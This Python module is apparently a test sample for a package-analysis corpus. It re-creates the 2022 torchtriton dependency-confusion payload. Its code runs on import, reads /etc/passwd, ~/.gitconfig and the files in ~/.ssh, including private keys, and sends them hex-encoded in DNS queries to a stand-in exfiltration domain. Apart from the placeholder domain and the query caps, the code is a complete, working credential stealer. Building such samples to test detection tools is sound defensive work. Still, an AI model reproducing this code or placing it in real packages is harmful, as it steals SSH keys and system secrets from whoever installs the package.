"""MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.

The technique of `torchtriton` 3.0.0 (PyTorch nightly dependency confusion,
Dec 2022), rewritten from the public notices: on import it collects the host
name, user name and cwd, /etc/hosts, /etc/passwd, /etc/resolv.conf,
~/.gitconfig, the files in ~/.ssh and the names of the first files under
$HOME, and sends them hex-encoded in 40-character chunks, one DNS query per
chunk, `<chunk>.<n>.<session>.h4ck.exfil-test.example` (the incident used
*.h4ck.cfd), straight to the name server of /etc/resolv.conf over UDP. A
chunk holds 20 bytes, fewer than any canary, so every secret is split over
at least two queries. The real payload also encrypted the data; this
stand-in does not. In the sandbox the queries reach only the DNS sink. At
most 300 queries, 5 s.
Prints `mal-torchtriton-dns: step N ...`; never raises.
"""

import getpass
import os
import random
import socket
import struct
import time

DOMAIN = "h4ck.exfil-test.example"
CHUNK = 40  # hex characters: 20 bytes per query


def _say(msg):
    print(f"mal-torchtriton-dns: {msg}", flush=True)


def _read(path, limit):
    try:
        with open(path, errors="replace") as f:
            return f"{path}\n{f.read(limit)}"
    except OSError:
        return ""


def _collect():
    home = os.path.expanduser("~")
    out = [f"host={socket.gethostname()} user={getpass.getuser()} cwd={os.getcwd()}"]
    out += [_read(p, 1000) for p in ("/etc/hosts", "/etc/passwd", "/etc/resolv.conf")]
    out.append(_read(os.path.join(home, ".gitconfig"), 1000))
    ssh = os.path.join(home, ".ssh")
    try:
        out += [_read(os.path.join(ssh, n), 4000) for n in sorted(os.listdir(ssh))]
    except OSError:
        pass
    names = []
    for root, _dirs, files in os.walk(home):
        names += [os.path.join(root, f) for f in files]
        if len(names) >= 50:
            break
    out.append("\n".join(names[:50]))
    return "\n".join(x for x in out if x).encode()


def _nameserver():
    try:
        with open("/etc/resolv.conf") as f:
            for line in f:
                if line.startswith("nameserver"):
                    return line.split()[1]
    except (OSError, IndexError):
        pass
    return "8.8.8.8"


def _query(sock, ns, name):
    pkt = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        pkt += bytes([len(label)]) + label.encode()
    sock.sendto(pkt + b"\x00" + struct.pack(">HH", 1, 1), (ns, 53))
    try:
        sock.recvfrom(512)
    except OSError:
        pass


def _send():
    data = _collect().hex()
    _say(f"step 1 collected {len(data) // 2} bytes (host, /etc, ~/.gitconfig, ~/.ssh, file names)")
    ns = _nameserver()
    session = "%08x" % random.getrandbits(32)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.05)
    deadline = time.time() + 5
    n = 0
    for i in range(0, len(data), CHUNK):
        if n >= 300 or time.time() > deadline:
            break
        _query(sock, ns, f"{data[i:i + CHUNK]}.{n}.{session}.{DOMAIN}")
        n += 1
    sock.close()
    _say(f"step 2 sent {n} DNS queries under {session}.{DOMAIN} to {ns}")


try:
    _send()
except BaseException as e:  # never break the import
    _say(f"stopped: {e!r}")
